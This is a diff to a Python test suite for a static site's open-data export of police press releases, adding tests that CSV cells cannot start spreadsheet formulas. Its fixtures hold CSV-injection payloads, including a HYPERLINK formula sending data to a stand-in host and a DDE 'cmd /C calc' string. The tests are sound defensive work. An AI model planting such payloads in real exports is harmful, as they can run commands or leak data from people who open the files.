@@ -6,6 +6,7 @@ import csv
 import datetime
 import io
 import json
+import re
 import shutil
 from pathlib import Path
 
@@ -18,7 +19,7 @@ from referencing import Registry as SchemaRegistry
 from referencing import Resource
 
 from arsip.registry import KINDS, Registry
-from plugins.opendata import to_json
+from plugins.opendata import csv_cell, to_json
 
 ROOT = Path(__file__).resolve().parent.parent
 CONTENT = ROOT / "content"
@@ -188,6 +189,22 @@ Isi rilis.
 """
 
 
+# Fields a spreadsheet would run as formulas (OWASP "CSV Injection").
+FORMULA_RELEASE = """\
+Title: =HYPERLINK("http://formula.example/?data=","Klik")
+Date: 2024-12-04 08:00
+Slug: rilis-rumus
+Summary: +cmd|' /C calc'!A0
+Units: Polsek Menteng
+Activities: Cooling System
+Places: -1+1; Kelurahan Cikini
+Sources: @SUM(1+1)
+Status: published
+
+Isi rilis.
+"""
+
+
 DRAFT_RELEASE = TRICKY_RELEASE.replace("Status: published", "Status: draft").replace(
     "Slug: rapat-tiga-pilar-evaluasi-keamanan", "Slug: draf-yang-belum-terbit"
 )
@@ -201,6 +218,9 @@ def tricky_site(tmp_path_factory):
     (content / "rilis" / "2024" / "2024-12-03-draf.md").write_text(DRAFT_RELEASE, encoding="utf-8")
     (content / "rilis" / "2024" / "2024-12-02-rapat.md").write_text(
         TRICKY_RELEASE, encoding="utf-8"
+    )
+    (content / "rilis" / "2024" / "2024-12-04-rumus.md").write_text(
+        FORMULA_RELEASE, encoding="utf-8"
     )
     build = run_pelican(content, tmp_path_factory.mktemp("tricky-out"))
     assert build.returncode == 0, build.stdout + build.stderr
@@ -216,6 +236,25 @@ def test_quotes_commas_semicolons_and_accents_survive_the_csv(tricky_site):
     assert row["places"] == "Jalan Cikini Raya, No. 5; Kelurahan Cikini"
     assert row["officers"] == "Kompol Bayu Marfiando (Kapolsek Menteng)"
     assert len(rows) == len(published_releases(content))
+
+
+def test_formulas_are_text_in_the_csv_and_unchanged_in_the_json(tricky_site):
+    _, build = tricky_site
+    row = {row["slug"]: row for row in read_csv(build.output / "data" / "releases.csv")}[
+        "rilis-rumus"
+    ]
+    record = {r["slug"]: r for r in load_json(build.output / "data" / "releases.json")["releases"]}[
+        "rilis-rumus"
+    ]
+    for column in ("title", "summary", "places", "sources"):
+        assert row[column][:1] == "'" and row[column][1:2] in "=+-@", column
+    assert row["title"] == "'" + record["title"]
+    assert row["summary"] == "'" + record["summary"]
+    assert row["places"] == "'" + "; ".join(record["places"])
+    assert record["places"] == ["-1+1", "Kelurahan Cikini"] and record["sources"] == ["@SUM(1+1)"]
+    # Every other cell of every row: nothing a spreadsheet would evaluate.
+    for row in read_csv(build.output / "data" / "releases.csv"):
+        assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for cell in row.values())
 
 
 def test_drafts_stay_out_of_the_data(tricky_site):
@@ -251,7 +290,7 @@ JSON_VALUES = strategies.recursive(
     strategies.none()
     | strategies.booleans()
     | strategies.integers()
-    | strategies.floats()
+    | strategies.floats(allow_nan=False)
     | strategies.text(),
     lambda inner: strategies.lists(inner) | strategies.dictionaries(strategies.text(), inner),
     max_leaves=40,
@@ -261,6 +300,30 @@ JSON_VALUES = strategies.recursive(
 @settings(max_examples=200, deadline=None)
 @given(JSON_VALUES)
 def test_the_json_writer_writes_what_json_dumps_writes(document):
-    # plugins/opendata.py indents JSON itself, for speed; the files must not change.
+    """plugins/opendata.py indents JSON itself, for speed: the same data, the same
+    layout as json.dumps, with < > & and U+2028/U+2029 as \\u escapes."""
+    written = to_json(document).decode("utf-8")
+    assert not re.search("[<>&\u2028\u2029]", written)
+    assert json.loads(written) == document
     expected = json.dumps(document, ensure_ascii=False, indent=2) + "\n"
-    assert to_json(document) == expected.encode("utf-8")
+    assert written.count("\n") == expected.count("\n")
+    assert [len(line) - len(line.lstrip(" ")) for line in written.split("\n")] == [
+        len(line) - len(line.lstrip(" ")) for line in expected.split("\n")
+    ]
+
+
+@pytest.mark.parametrize(
+    ("value", "cell"),
+    [
+        ('=HYPERLINK("http://x.example","klik")', '\'=HYPERLINK("http://x.example","klik")'),
+        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
+        ("-1+1", "'-1+1"),
+        ("@SUM(1+1)", "'@SUM(1+1)"),
+        ("\t=1", "'\t=1"),
+        ("\r=1", "'\r=1"),
+        ("Jalan A = B", "Jalan A = B"),
+        ("", ""),
+    ],
+)
+def test_csv_cells_never_start_a_formula(value, cell):
+    assert csv_cell(value) == cell
